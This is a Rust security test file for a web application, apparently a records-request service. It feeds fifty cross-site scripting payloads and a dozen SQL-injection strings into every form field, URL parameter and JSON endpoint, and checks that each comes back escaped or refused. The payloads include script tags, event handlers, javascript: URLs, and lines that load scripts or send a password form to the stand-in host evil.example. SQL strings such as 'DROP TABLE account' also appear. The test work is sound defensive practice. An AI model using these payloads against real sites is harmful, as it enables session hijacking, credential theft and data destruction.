//! Fifty ways of writing script, in every text field of every form that a
//! person can reach: shown back as words, and never as markup.

use std::collections::BTreeSet;

use answerable_desk::who::{ActsFor, Role};
use answerable_register::entry::Fact;
use answerable_testkit::facts;

use answerable_desk::clerk::Command;

use crate::markup::{Form, forms, harmful};
use crate::office::{Office, Person, REPORT, TODAY};
use crate::site::Site;

/// Each breaks out of text, an attribute, a comment, a text area, an address,
/// or looks like nothing until somebody decodes it.
const PAYLOADS: [&str; 50] = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example/x.js></script>",
    "<script\u{c}>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<style>@import '//evil.example/x.css';</style>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "\"><script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus='alert(1)",
    "\" onmouseover=alert(1) ",
    "x\" style=\"animation-name:x\" onanimationstart=\"alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</select><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "javascript:alert(1)//\"><b>",
    "data:text/html,<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>",
    "&#x3c;img src=x onerror=alert(1)&#x3e;<img src=x onerror=alert(1)>",
    "{{1337*1337}}${1337*1337}<%= 1337*1337 %>#{1337*1337}<script>alert(1)</script>",
    "\u{202e}<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E<script>alert(1)</script>",
];

/// Everybody whose pages have forms, and the pages.
struct Pages<'o> {
    people: Vec<(Person<'o>, Vec<String>)>,
}

fn record_something_asked(office: &Office) {
    let report = facts::report_about("custody", "2024-01-10", &["exampleshire-police"]);
    office
        .desk
        .record(Command {
            key: None,
            by: "test".into(),
            today: TODAY,
            facts: vec![Fact::from(report).into()],
        })
        .unwrap();
}

async fn pages(office: &Office) -> Pages<'_> {
    record_something_asked(office);
    let ann = office.person("Ann Box").await;
    let ada = office.invited("Ada Example", Role::Administrator, ActsFor::Register);
    let ada = office.person_of(ada).await;
    let document = ann.upload("report.txt", REPORT.as_bytes()).await;
    let document = document.header("location").to_owned();
    let account = office.desk.accounts().named("Ann Box").unwrap().unwrap();
    let below = |parts: &[&str]| {
        parts
            .iter()
            .map(|part| format!("{document}{part}"))
            .collect::<Vec<_>>()
    };
    let mut of_ann = below(&[
        "/details", "/items/1", "/items/2", "/unused", "/check", "/give-up",
    ]);
    let plain = [
        "/account",
        "/account/password",
        "/account/recovery-codes",
        "/account/codes",
        "/looks/record?ask=custody/exampleshire-pcc/comment",
        "/sign-in",
        "/correction",
    ];
    of_ann.extend(plain.map(str::to_owned));
    let of_ada = vec!["/accounts".to_owned(), format!("/accounts/{}", account.id)];
    Pages {
        people: vec![(ann, of_ann), (ada, of_ada)],
    }
}

impl Pages<'_> {
    /// Every form with a field that is typed, and whose it is. What would end
    /// the session or the review is left to its own tests: it has no such field.
    async fn forms(&self) -> Vec<(&Person<'_>, Form)> {
        let mut all = Vec::new();
        let mut seen = BTreeSet::new();
        for (person, pages) in &self.people {
            for page in pages {
                let shown = person.get(page).await;
                for form in forms(&shown.body) {
                    let typed: Vec<_> = form
                        .fields
                        .iter()
                        .filter(|field| field.is_typed)
                        .map(|field| field.name.clone())
                        .collect();
                    if !typed.is_empty() && seen.insert((form.action.clone(), typed)) {
                        all.push((person, form));
                    }
                }
            }
        }
        all
    }
}

/// OWASP ASVS 5.0: 1.2.1, 1.1.2, 1.3.7, 3.2.2.
#[tokio::test]
async fn fifty_kinds_of_script_in_every_text_field_come_back_as_words() {
    let office = Office::new();
    let pages = pages(&office).await;
    let forms = pages.forms().await;
    let fields: usize = forms
        .iter()
        .map(|(_, form)| form.fields.iter().filter(|field| field.is_typed).count())
        .sum();
    assert!(
        forms.len() >= 8 && fields >= 25,
        "{} forms with {fields} fields",
        forms.len()
    );
    let (mut shown_back, mut found) = (0, Vec::<String>::new());
    for (person, form) in &forms {
        for payload in PAYLOADS {
            let sent: Vec<(&str, &str)> = form
                .fields
                .iter()
                .map(|field| {
                    (
                        field.name.as_str(),
                        if field.is_typed {
                            payload
                        } else {
                            field.value.as_str()
                        },
                    )
                })
                .collect();
            let answer = person.post_as_is(&form.action, &sent).await;
            // The inbox of this ground keeps nothing, and says so.
            let keeps_nothing = form.action == "/correction";
            let mut wrong = harmful(&answer.body);
            if answer.status.is_server_error() && !keeps_nothing {
                wrong.push(answer.status.to_string());
            }
            if answer.body.contains("1787569") {
                wrong.push("a template was run".to_owned());
            }
            found.extend(
                wrong
                    .iter()
                    .map(|wrong| format!("{} {payload}: {wrong}", form.action)),
            );
            let escaped = payload
                .replace('&', "&#38;")
                .replace('<', "&#60;")
                .replace('>', "&#62;")
                .replace('"', "&#34;")
                .replace('\'', "&#39;");
            shown_back += usize::from(answer.body.contains(&escaped));
        }
    }
    assert_eq!(found, Vec::<String>::new());
    // What was typed is still there to be put right, as the words it is.
    assert!(
        shown_back > 5 * PAYLOADS.len(),
        "{shown_back} answers showed what was typed"
    );
}

/// OWASP ASVS 5.0: 1.2.1, 1.2.2. The same in addresses, on every open page.
#[tokio::test]
async fn fifty_kinds_of_script_in_an_address_come_back_as_words() {
    let site = Site::invented();
    for payload in PAYLOADS {
        let escaped = crate::office::form(&[("x", payload)]);
        let escaped = escaped.strip_prefix("x=").unwrap();
        for address in [
            format!("/asks?words={escaped}"),
            format!("/asks?of={escaped}&standing={escaped}&order={escaped}"),
            format!("/asks?{escaped}={escaped}"),
            format!("/about?as-at={escaped}"),
            format!("/about?as-at-day={escaped}&as-at-month={escaped}&as-at-year={escaped}"),
            format!("/correction?page={escaped}"),
            format!("/correction/kept?reference={escaped}"),
            format!("/invitation?token={escaped}"),
            format!("/sources?page={escaped}"),
            format!("/reports/{escaped}"),
        ] {
            let Ok(request) = axum::http::Request::get(&address).body(axum::body::Body::empty())
            else {
                continue;
            };
            let answer = site.send(request).await;
            assert!(!answer.status.is_server_error(), "{address}");
            assert_eq!(harmful(&answer.body), Vec::<String>::new(), "{address}");
        }
    }
}

/// OWASP ASVS 5.0: 1.2.3. In JSON they are strings, whatever they hold.
#[tokio::test]
async fn in_json_hostile_words_stay_inside_their_string() {
    let site = Site::invented();
    for payload in PAYLOADS {
        let escaped = crate::office::form(&[("words", payload)]);
        let answer = site.get(&format!("/asks.json?{escaped}")).await;
        let read: Result<serde_json::Value, _> = serde_json::from_str(&answer.body);
        assert!(read.is_ok_and(|value| value.is_object()), "{payload}");
        assert_eq!(
            answer.header("content-type"),
            "application/json; charset=utf-8"
        );
        assert_eq!(answer.header("x-content-type-options"), "nosniff");
    }
}

/// OWASP ASVS 5.0: 1.2.4. Words for a database are words.
#[tokio::test]
async fn words_for_a_database_find_nothing_and_change_nothing() {
    let office = Office::new();
    let ann = office.person("Ann Box").await;
    let before = office.desk.accounts().list().unwrap().len();
    for words in [
        "' OR '1'='1",
        "'; DROP TABLE account; --",
        "\" OR \"\"=\"",
        "1; DELETE FROM session",
        "' UNION SELECT * FROM account --",
        "Ann Box' --",
        "Ann Box'/*",
        "%' OR 1=1 --",
        "\\'; SELECT 1; --",
        "NEAR(a b) OR *",
        "\"unclosed",
        "a* AND b:c",
    ] {
        let fields = [("name", words), ("password", words)];
        let refused = office.post("/sign-in", &fields).await;
        assert!(
            [422, 429].contains(&refused.status.as_u16()),
            "{words}: {}",
            refused.status
        );
        assert_eq!(refused.header("set-cookie"), "", "{words}");
        let query = crate::office::form(&[("words", words)]);
        let found = office.get(&format!("/asks?{query}")).await;
        assert!(!found.status.is_server_error(), "{words}");
        let half = ann.post("/account/sessions", &[("session", words)]).await;
        assert!(half.status.is_client_error(), "{words}");
    }
    assert_eq!(office.desk.accounts().list().unwrap().len(), before);
    assert_eq!(ann.get("/account").await.status.as_u16(), 200);
}
